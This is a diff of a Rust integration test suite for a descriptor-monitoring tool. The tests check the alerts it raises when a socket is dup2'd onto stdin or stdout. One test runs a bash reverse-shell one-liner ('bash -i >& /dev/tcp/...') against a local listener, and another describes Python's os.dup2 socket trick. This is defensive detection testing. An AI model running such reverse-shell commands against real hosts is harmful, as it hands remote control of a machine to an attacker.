@@ -6,7 +6,6 @@
 use std::{
     io::{Read, Write},
     net::{TcpListener, TcpStream},
-    process::Command,
     time::Instant,
 };
 
@@ -65,13 +64,11 @@ fn bash_reverse_shell_is_one_critical_socket_onto_stdio_alert() {
     let home = TempPath::new("home");
     std::fs::create_dir(&home.0).unwrap();
     let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
-    let mut cmd = Command::new(fdops_bin());
+    let mut cmd = fdops_exec(&["/usr/bin/bash", "-c", &script]);
     // An empty HOME: no ~/.bashrc of whoever runs the tests.
-    cmd.args(["wait", "exec", "/usr/bin/bash", "-c", &script]).env("HOME", &home.0);
-    let mut root = Proc::spawn(cmd, "bash reverse shell");
-    root.line("op=wait");
-    let fw = Fdwatch::watch(root.pid(), &["--follow"]);
-    root.send("go");
+    cmd.env("HOME", &home.0);
+    let mut root = Proc::waiting(cmd, "bash reverse shell");
+    let fw = root.go_watched();
 
     let mut conn = accept(&listener, "the reverse shell's connection");
     // The interactive bash: the process of the tree with the socket on fd 0.
@@ -119,31 +116,33 @@ fn bash_reverse_shell_is_one_critical_socket_onto_stdio_alert() {
     assert_eq!(all.len(), 1, "exactly one alert record, no repeats: {all:#?}");
 }
 
-/// Python's `os.dup2(sock.fileno(), 0)`: one critical alert, fds [0].
+/// Python's `os.dup2(sock.fileno(), 0)` in a script: only stdin, and the interpreter
+/// runs a script rather than reading code from stdin: one warning, fds [0].
 #[test]
-fn python_dup2_of_a_tcp_socket_onto_stdin_is_one_critical_alert() {
+fn python_dup2_of_a_tcp_socket_onto_stdin_is_one_warning() {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port().to_string();
     let mut py = Proc::run(&python(), &[&helper("stdio_dup2.py"), &port], "stdio_dup2.py");
     let pid = py.pid();
-    let fw = Fdwatch::watch(pid, &["--follow"]);
-    py.send("go");
+    let fw = py.go_watched();
     let conn = accept(&listener, "the python client");
     let line = py.line("dup2 ");
     assert_eq!(Proc::field(&line, "pid"), pid);
     let ino = Proc::field(&line, "ino");
     let (comm, exe) = (comm_of(pid), exe_of(pid));
+    // The alert is written after its window while python still reads the socket (one
+    // that exits within the window is dropped, alert_shells.rs).
+    fw.expect("the alert", DEADLINE, |r| r["type"] == "alert" && r["pid"] == pid);
     drop(conn); // EOF on its fd 0: it exits
     py.line("eof");
     py.finish_ok();
-
-    fw.expect("the alert", DEADLINE, |r| r["type"] == "alert" && r["pid"] == pid);
+    fw.expect("python's exit", DEADLINE, |r| check::event_of(r, pid, "exit"));
     let records = stop(fw);
     let alert = the_alert(&records, "stdio_hijack", pid, "os.dup2(sock, 0)");
     assert_alert(
         &alert,
         json!({
-            "kind": "stdio_hijack", "severity": "critical", "pid": pid, "comm": comm, "exe": exe,
+            "kind": "stdio_hijack", "severity": "warning", "pid": pid, "comm": comm, "exe": exe,
             "shape": "socket_onto_stdio", "fds": [0], "object": ANY,
         }),
     );
@@ -165,26 +164,29 @@ fn python_dup2_of_a_tcp_socket_onto_stdin_is_one_critical_alert() {
     assert_eq!(all_alerts_of(&records, pid).len(), 1, "{:?}", all_alerts_of(&records, pid));
 }
 
-/// fdops: a unix socket dup2'd onto 0, under `--allow EXTRA` or not.
+/// fdops: a unix socket dup2'd onto 0, under `--allow EXTRA` or not; it lives on past
+/// the alert window (a process that exits within it is dropped: alert_shells.rs).
 /// Returns (pid, the socket's fd, its inode, every record).
 fn unix_socket_onto_stdin(extra: &[&str]) -> (i64, i64, i64, Vec<Value>) {
-    let (fw, mut child) = start_watched(&["socket", "AF_UNIX", "SOCK_STREAM", "0", "dup2", "%socket.ret", "0"], extra);
+    let (fw, mut child) =
+        start_watched(&["socket", "AF_UNIX", "SOCK_STREAM", "0", "dup2", "%socket.ret", "0", "sleep_ms", "500"], extra);
     let pid = child.pid();
     let sock = child.op("socket");
     assert_eq!(child.op("dup2").ok(), 0);
     child.finish_ok();
-    fw.expect("the helper's exit (which flushes its alerts)", DEADLINE, |r| check::event_of(r, pid, "exit"));
-    (pid, sock.ok(), sock.int("ino"), stop(fw))
+    (pid, sock.ok(), sock.int("ino"), stop_after_exit(fw, pid))
 }
 
+/// A lone stdin on a program that is no shell: a warning (issue 15: severity follows
+/// the shape).
 #[test]
-fn unix_socket_dup2_onto_stdin_is_critical_without_allow() {
+fn unix_socket_dup2_onto_stdin_is_a_warning_without_allow() {
     let (pid, fd, ino, records) = unix_socket_onto_stdin(&[]);
     let alert = the_alert(&records, "stdio_hijack", pid, "dup2(unix socket, 0)");
     assert_alert(
         &alert,
         json!({
-            "kind": "stdio_hijack", "severity": "critical", "pid": pid, "comm": "fdops", "exe": fdops_exe(),
+            "kind": "stdio_hijack", "severity": "warning", "pid": pid, "comm": "fdops", "exe": fdops_exe(),
             "shape": "socket_onto_stdio", "fds": [0], "object": ANY,
         }),
     );
@@ -297,8 +299,7 @@ fn file_opened_the_way_the_stdio_number_is_used_is_no_alert() {
     );
     let pid = child.pid();
     child.finish_ok();
-    fw.expect("the helper's exit", DEADLINE, |r| check::event_of(r, pid, "exit"));
-    let records = stop(fw);
+    let records = stop_after_exit(fw, pid);
     let out = std::fs::read_to_string(&out.0).unwrap();
     assert!(out.contains("op=openat ret=1 "), "the file should be fd 1: {out}");
     assert_no_alerts(&records, "stdin from a file opened O_RDONLY, stdout to a file opened O_WRONLY");
@@ -310,8 +311,7 @@ fn allow_suppresses_landed_on_stdio() {
     let pid = child.pid();
     assert_eq!(child.op("socket").ok(), 0);
     child.finish_ok();
-    fw.expect("the helper's exit", DEADLINE, |r| check::event_of(r, pid, "exit"));
-    let records = stop(fw);
+    let records = stop_after_exit(fw, pid);
     assert_no_alerts(&records, "landed_on_stdio of an allowed process");
 }
 
@@ -322,6 +322,11 @@ fn allow_suppresses_landed_on_stdio() {
 /// statsd), a unix stream connection accepted and dup2'd onto 0 (the FastCGI host),
 /// sendto(0, statsd) = EISCONN. `pause_ms` between the landing and the dup2.
 fn statsd(extra: &[&str], pause_ms: &str) -> Statsd {
+    statsd_with(extra, pause_ms, "0")
+}
+
+/// `statsd`, with `late_ms` between the dup2 and the failing sendto.
+fn statsd_with(extra: &[&str], pause_ms: &str, late_ms: &str) -> Statsd {
     let name = abstract_name("fcgi");
     let (fw, mut child) = start_watched(
         &[
@@ -352,6 +357,8 @@ fn statsd(extra: &[&str], pause_ms: &str) -> Statsd {
             "dup2",
             "%accept.ret",
             "0",
+            "sleep_ms",
+            late_ms,
             "sendto",
             "0",
             "127.0.0.1:%udp.port",
@@ -373,8 +380,7 @@ fn statsd(extra: &[&str], pause_ms: &str) -> Statsd {
     let send = child.op("sendto");
     assert_eq!(send.get("errno"), "EISCONN", "{}", send.raw);
     child.finish_ok();
-    fw.expect("the helper's exit (which flushes its alerts)", DEADLINE, |r| check::event_of(r, pid, "exit"));
-    let records = stop(fw);
+    let records = stop_after_exit(fw, pid);
     Statsd { pid, statsd_port, udp_ino: udp.int("ino"), conn, conn_ino: acc.int("ino"), unix, records }
 }
 
@@ -472,4 +478,31 @@ fn allow_does_not_suppress_stdio_clobbered() {
     let all = stdio_alerts(&s.records, s.pid);
     assert_eq!(all.len(), 1, "only the clobber (the landing is allowed):\n{all:#?}");
     check_clobbered(&s, &all[0]);
+}
+
+/// The EISCONN comes 800 ms after the dup2, past the alert's 250 ms window: the alert is
+/// written without it, and the failure follows as a `symptom` record tied to its id.
+#[test]
+fn a_symptom_after_the_window_is_a_symptom_record_of_the_alert() {
+    let s = statsd_with(&[], "0", "800");
+    let all = stdio_alerts(&s.records, s.pid);
+    assert_eq!(all.len(), 1, "{all:#?}");
+    let alert = &all[0];
+    assert_eq!(alert["shape"], "stdio_clobbered", "{alert}");
+    assert!(
+        !alert["evidence"].as_array().unwrap().iter().any(|e| e["what"] == "symptom"),
+        "the symptom came after the window: {alert}"
+    );
+    let symptoms: Vec<&Value> = s.records.iter().filter(|r| r["type"] == "symptom").collect();
+    assert_eq!(symptoms.len(), 1, "{symptoms:#?}");
+    assert_event(
+        symptoms[0],
+        &json!({
+            "type": "symptom", "ts": ANY, "host": ANY, "id": alert["id"], "kind": "stdio_hijack", "pid": s.pid,
+            "comm": "fdops", "syscall": "sendto",
+            "args": {"sockfd": 0, "len": 5, "flags": "0", "addr": format!("127.0.0.1:{}", s.statsd_port), "addrlen": 16},
+            "ret": -106, "errno": "EISCONN",
+        }),
+    );
+    assert!(symptoms[0]["ts"].as_str() > alert["ts"].as_str(), "after the alert");
 }
